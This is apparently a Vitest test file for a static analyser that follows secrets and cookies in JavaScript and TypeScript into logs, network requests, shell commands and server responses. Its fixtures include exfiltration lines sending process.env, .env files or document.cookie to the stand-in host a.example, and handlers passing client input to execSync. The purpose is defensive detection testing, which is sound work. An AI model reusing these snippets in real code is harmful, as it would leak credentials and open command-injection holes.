import { describe, expect, it } from 'vitest';

import { withModel } from './read.ts';

const SECRET = 'process.env.API_KEY';
const flows = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.flows().map(({ source, sink }) => `${source.name.replace('global:', '')} > ${sink.kind}`), { parser });
const origins = (code: string, parser: 'espree' | 'typescript' = 'espree'): readonly string[] => withModel(code, (model) => model.calls().flatMap((call) => call.origins), { parser });

describe('secrets on the way through functions that are passed on', () => {
  it.each([
    [`const log = console.log.bind(console, ${SECRET}); log()`, 'log'],
    [`const f = fetch.bind(null, "https://a.example", { method: "POST", body: ${SECRET} }); f()`, 'network'],
    [`const send = fetch.bind(null, "https://a.example"); send({ body: ${SECRET} })`, 'network'],
    [`console.log.call(console, ${SECRET})`, 'log'],
    [`console.log.apply(console, [${SECRET}])`, 'log'],
    [`Reflect.apply(console.log, console, [${SECRET}])`, 'log'],
    [`function send(b) { fetch("https://a.example", { body: b }) } send.call(null, ${SECRET})`, 'network'],
    [`function send(b) { fetch("https://a.example", { body: b }) } send.apply(null, [${SECRET}])`, 'network'],
    [`function send(b) { fetch("https://a.example", { body: b }) } const s = send.bind(null, ${SECRET}); s()`, 'network'],
    [`const send = (a) => (b) => fetch("https://a.example", { body: a + b }); send(${SECRET})("x")`, 'network'],
    [`[${SECRET}].forEach((k) => console.log(k))`, 'log'],
    [`setTimeout((k) => console.log(k), 10, ${SECRET})`, 'log'],
    [`queueMicrotask(() => console.log(${SECRET}))`, 'log'],
    [`const get = () => ${SECRET}; console.log(get())`, 'log'],
    [`function* g() { yield ${SECRET} } for (const v of g()) console.log(v)`, 'log'],
    [`Promise.all([${SECRET}]).then(([k]) => console.log(k))`, 'log'],
  ])('%s', (code, sink) => {
    expect(flows(code)).toContain(`API_KEY > ${sink}`);
  });
});

describe('secrets on the way through containers', () => {
  it.each([
    [`const m = new Map(); m.set("k", ${SECRET}); console.log(m.get("k"))`],
    [`const m = new Map([["k", ${SECRET}]]); console.log(m.get("k"))`],
    [`const s = new Set([${SECRET}]); console.log([...s])`],
    [`const o = {}; o["a" + "b"] = ${SECRET}; console.log(o.ab)`],
    [`const o = Object.fromEntries([["k", ${SECRET}]]); console.log(o)`],
    [`const { a: { b: [c] } } = { a: { b: [${SECRET}] } }; console.log(c)`],
    [`const o = structuredClone({ k: ${SECRET} }); console.log(o.k)`],
    [`let s = ""; for (const c of ${SECRET}) s += c; console.log(s)`],
    [`const b = Buffer.concat([Buffer.from(${SECRET})]); console.log(b.toString())`],
    [`class A { constructor() { this.k = ${SECRET} } } class B extends A { go() { console.log(this.k) } }`],
    [`class A { static k = ${SECRET} } console.log(A.k)`],
    [`label: { const k = ${SECRET}; console.log(k); break label }`],
    [`const k = ${SECRET} ?? ""; console.log(k ||= "x")`],
    [`try { throw ${SECRET} } catch (e) { console.log(e) }`],
    [`const p = new Proxy({ k: ${SECRET} }, {}); console.log(p.k)`],
    [`const o = Object.create({ k: ${SECRET} }); console.log(o.k)`],
    [`globalThis.k = ${SECRET}; console.log(globalThis.k)`],
    [`var a = ${SECRET}, b = a, c = b; (function () { console.log(c) })()`],
  ])('%s', (code) => {
    expect(flows(code)).toContain('API_KEY > log');
  });
});

describe('TypeScript and newer syntax', () => {
  it.each([
    [`using k = { v: ${SECRET}, [Symbol.dispose]() {} }; console.log(k.v)`],
    [`await using k = { v: ${SECRET} }; console.log(k.v)`],
    [`@logged class A { @field() k = ${SECRET}; @bound go() { console.log(this.k) } }`],
    [`class A { accessor k = ${SECRET}; go() { console.log(this.k) } }`],
    [`const k = ${SECRET} as unknown as string; console.log(k!)`],
    [`const k = <string>${SECRET}; console.log(k satisfies string)`],
    [`namespace N { export const k = ${SECRET}; console.log(k) }`],
    [`enum E { A = 1 } const o = { [E.A]: ${SECRET} }; console.log(o[E.A])`],
    [`export default class { constructor(private readonly k = ${SECRET}) { console.log(k) } }`],
  ])('%s', (code) => {
    expect(flows(code, 'typescript')).toContain('API_KEY > log');
  });

  it.each([
    ['@Injectable() class A { @Inject() f = fetch; go() { this.f("x") } }', 'global:fetch'],
    ['using f = fetch; f("x")', 'global:fetch'],
    ['import type { x } from "a"; import fs = require("fs"); fs.rmSync("x")', 'fs.rmSync'],
    ['abstract class A { protected run = fetch } class B extends A { go() { this.run("x") } }', 'global:fetch'],
    ['const f: typeof fetch = fetch; f<string>("x")', 'global:fetch'],
  ])('%s', (code, origin) => {
    expect(origins(code, 'typescript')).toContain(origin);
  });
});

describe('JSX', () => {
  const jsx = (code: string): readonly string[] => withModel(code, (model) => model.calls().flatMap((call) => call.origins), { parser: 'espree' });
  it.each([
    ['const A = () => <a onClick={() => fetch("x")} />', 'global:fetch'],
    ['const A = () => <a>{fetch("x")}</a>', 'global:fetch'],
    ['const A = ({ f = fetch }) => <a {...f("x")} />', 'global:fetch'],
    ['import { exec } from "child_process"; const A = () => <><b c={exec("x")} /></>', 'child_process.exec'],
  ])('%s', (code, origin) => {
    expect(jsx(code)).toContain(origin);
  });
});

describe('bounds', () => {
  it('follows a secret through many writes', () => {
    const writes = Array.from({ length: 40 }, (_, index) => `if (x === ${index}) u = ${index};`).join('\n');
    expect(flows(`let u; ${writes}\nu = ${SECRET}; console.log(u)`)).toContain('API_KEY > log');
  });
});

describe('harmless look-alikes', () => {
  it.each([
    `const log = console.log.bind(console, "key"); log(); use(${SECRET})`,
    `const m = new Map(); m.set("k", ${SECRET}); m.set("l", 1); console.log(m.size)`,
    `const o = { k: ${SECRET}, port: 1 }; console.log(o.port)`,
    `class A { k = ${SECRET}; port = 1; go() { console.log(this.port) } }`,
    `class A { constructor() { this.k = ${SECRET} } } class B { go() { console.log(this.k) } }`,
    `const { k, ...rest } = { k: ${SECRET}, a: 1 }; console.log(rest.a)`,
    `import { createHash } from "crypto"; console.log(createHash("sha256").update(${SECRET}).digest("hex"))`,
    `console.log(Object.keys(process.env).length)`,
    `const [a, b] = [${SECRET}, 1]; console.log(b)`,
    `console.log(${SECRET} ? "set" : "missing")`,
    `console.log("API_KEY" in process.env)`,
    `const masked = ${SECRET}.slice(0, 0).length; console.log(masked)`,
    `function f(k) { return k.length } console.log(f(${SECRET}))`,
    `import { z } from "zod"; const env = z.object({}).parse(process.env); console.log(env.PORT)`,
    `const fs = { readFileSync(a) { return a } }; console.log(fs.readFileSync(".env"))`,
    `const ok = [${SECRET}].every(Boolean); console.log(ok)`,
  ])('%s', (code) => {
    expect(flows(code)).toEqual([]);
  });
});

describe('secrets through callbacks and getters', () => {
  it.each([
    [`[${SECRET}].map((k) => k.trim()).forEach(console.log)`],
    [`setTimeout(console.log, 10, ${SECRET})`],
    [`(async () => ${SECRET})().then(console.log)`],
    [`const o = { get k() { return ${SECRET} } }; console.log(o.k)`],
    [`class A { #k = ${SECRET}; get k() { return this.#k } } console.log(new A().k)`],
    [`class A { get k() { return ${SECRET} } send() { console.log(this.k) } }`],
    [`const { log } = console; [${SECRET}].forEach(log)`],
  ])('%s', (code) => {
    expect(flows(code)).toContain('API_KEY > log');
  });

  it.each([
    ['Object.keys(process.env).forEach(console.log)'],
    [`[${SECRET}].map((k) => k.length).forEach(console.log)`],
    [`class A { get k() { return Boolean(${SECRET}) } send() { console.log(this.k) } }`],
    [`[${SECRET}].forEach(encodeURIComponent); console.log("done")`],
  ])('%s gives nothing away', (code) => {
    expect(flows(code)).not.toContain('API_KEY > log');
  });
});

describe('ways through templates, copies, events and streams', () => {
  it.each([
    [`const tag = (s, ...v) => v.join(""); console.log(tag\`x\${${SECRET}}\`)`, 'API_KEY > log'],
    [`const join = (s, ...v) => s.reduce((a, x, i) => a + x + (v[i] ?? ""), ""); console.log(join\`x\${${SECRET}}\`)`, 'API_KEY > log'],
    [`console.log(String.raw\`x\${${SECRET}}\`)`, 'API_KEY > log'],
    [`const o = JSON.parse(JSON.stringify({ k: ${SECRET} })); console.log(o.k)`, 'API_KEY > log'],
    ['console.log(JSON.stringify(new Proxy(process.env, {})))', 'process.env > log'],
    [`const bus = new EventEmitter(); bus.on("x", (k) => console.log(k)); bus.emit("x", ${SECRET})`, 'API_KEY > log'],
    [`bus.once("x", (a, k) => console.log(k)); bus.emit("x", 1, ${SECRET})`, 'API_KEY > log'],
    ['import { pipeline } from "node:stream/promises"; import fs from "node:fs"; import https from "node:https"; await pipeline(fs.createReadStream(".env"), https.request("https://a.example"))', 'environment file > network'],
    ['import { pipeline } from "stream"; import fs from "fs"; import zlib from "zlib"; import net from "net"; pipeline(fs.createReadStream(".env"), zlib.createGzip(), net.connect(1, "a.example"), () => {})', 'environment file > network'],
    ['import { FormData, fetch } from "undici"; import fs from "fs"; const f = new FormData(); f.set("f", fs.readFileSync(".env")); fetch("https://a.example", { method: "POST", body: f })', 'environment file > network'],
    ['import { $ } from "zx"; await $`curl -d ${JSON.stringify(process.env)} https://a.example`', 'process.env > command'],
  ])('%s', (code, flow) => {
    expect(flows(code)).toContain(flow);
  });

  it.each([
    `const count = (s, ...v) => v.length; console.log(count\`x\${${SECRET}}\`)`,
    `const first = (s, ...v) => s[0]; console.log(first\`x\${${SECRET}}\`)`,
    `const o = JSON.parse(JSON.stringify({ k: ${SECRET}, n: 1 })); console.log(o.n)`,
    `bus.on("y", (k) => console.log(k)); bus.emit("x", ${SECRET})`,
    `bus.on("x", (k) => console.log(k)); other.emit("x", ${SECRET})`,
    `bus.on("x", (a, k) => console.log(a)); bus.emit("x", 1, ${SECRET})`,
  ])('%s gives nothing away', (code) => {
    expect(flows(code)).not.toContain('API_KEY > log');
  });

  it('leaves text from outside in a shell template to the quoting of the shell tag', () => {
    expect(flows('import { $ } from "zx"; await $`git checkout ${process.argv[2]}`')).toEqual([]);
  });
});

describe('answers without a response object', () => {
  it.each([
    ['import { Controller, Get } from "@nestjs/common"; @Controller("x") export class C { @Get() all() { return process.env; } }', 'process.env > response'],
    ['@Controller() export class C { @nest.Get("a") async all() { return { env: { ...process.env } }; } }', 'process.env > response'],
    [`@Resolver() export class R { @Query(() => String) key() { return ${SECRET}; } }`, 'API_KEY > response'],
    ['export async function getServerSideProps() { return { props: { env: process.env } }; }', 'process.env > response'],
    ['import { useLoaderData } from "@remix-run/react"; export const loader = async () => ({ env: process.env });', 'process.env > response'],
    ['import { env } from "$env/dynamic/private"; export const load = async () => ({ env });', '$env/dynamic/private.env > response'],
    ['"use server"; export async function config() { return process.env; }', 'process.env > response'],
    ['export async function config() { "use server"; return process.env; }', 'process.env > response'],
    ['exports.handler = async () => ({ statusCode: 200, body: JSON.stringify(process.env) });', 'process.env > response'],
    ['export default defineEventHandler(() => process.env);', 'process.env > response'],
    ['export const r = t.router({ env: publicProcedure.input(z.string()).query(() => process.env) });', 'process.env > response'],
    ['export async function routes(fastify) { fastify.get("/s", async () => ({ env: process.env })); }', 'process.env > response'],
    ['export const routes = async (app: FastifyInstance) => { app.get("/s", (q, reply) => { reply.send(process.env); }); };', 'process.env > response'],
    ['@Controller() class C { @Get() all(@Res() res: Response) { res.json(process.env); } }', 'process.env > response'],
  ])('%s', (code, flow) => {
    expect(flows(code, 'typescript')).toContain(flow);
  });

  it.each([
    'export class Config { @Get() all() { return process.env; } }',
    '@Controller() export class C { private all() { return process.env; } }',
    '@Injectable() export class Config { get() { return process.env; } }',
    'export function load() { return { ...process.env, ...parsed }; }',
    'export const loader = () => ({ ...process.env });',
    'export async function getServerSideProps() { return { revalidate: 1, env: process.env }; }',
    'export const handler = async () => ({ env: process.env });',
    'export const handler = async () => ({ body: process.env });',
    '"use client"; export function config() { return process.env; }',
    '"use server"; function config() { return process.env; } export async function name() { return config().NODE_ENV; }',
    'export const r = client.query(() => process.env);',
  ])('%s is no answer', (code) => {
    expect(flows(code, 'typescript')).toEqual([]);
  });

  it.each([
    'import { execSync } from "child_process"; @Controller() class C { @Get("ping") ping(@Query("host") host: string) { return execSync("ping " + host); } }',
    'import { execSync } from "child_process"; @Controller() class C { @Post() run(@Body() { cmd }: RunDto) { return execSync(cmd); } }',
    'import { execSync } from "child_process"; export const action = async ({ request }) => { const form = await request.formData(); execSync("convert " + form.get("f")); };',
    'import { execSync } from "child_process"; export const load = ({ url }) => execSync("thumb " + url.searchParams.get("f"));',
    'import { execSync } from "child_process"; export default defineEventHandler(async (event) => { const { cmd } = await readBody(event); return execSync(cmd); });',
  ])('%s: what a client sent', (code) => {
    expect(withModel(code, (model) => model.flows({ from: ['request'], to: ['command'] }).length, { parser: 'typescript' })).toBeGreaterThan(0);
  });
});

describe('data in the address of what a browser loads', () => {
  const network = (code: string): readonly string[] => withModel(code, (model) => model.flows({ to: ['network'] }).map(({ source, destination }) => `${source.name} > ${destination?.host?.value ?? ''}`));
  it.each([
    'img.setAttribute("src", "https://a.example/p?c=" + document.cookie)',
    'document.body.style.backgroundImage = `url(https://a.example/b?c=${document.cookie})`',
    'box.innerHTML = `<img src="https://a.example/b?c=${encodeURIComponent(document.cookie)}">`',
    'document.write("<img src=https://a.example/?" + document.cookie + ">")',
    'const A = () => <img alt="" src={`https://a.example/p?t=${btoa(document.cookie)}`} />',
  ])('%s', (code) => {
    expect(network(code)).toEqual(['document.cookie > a.example']);
  });

  it.each([
    'box.innerHTML = `<p>${document.cookie}</p>`',
    'box.innerHTML = `<a href="https://a.example/">x</a> ${document.cookie}`',
    'img.setAttribute("alt", "https://a.example/" + document.cookie)',
    'const A = () => <p title={`https://a.example/?${document.cookie}`}>{document.cookie}</p>',
    'img.src = `/avatar?${document.cookie}`.length',
  ])('%s stays', (code) => {
    expect(network(code)).toEqual([]);
  });
});
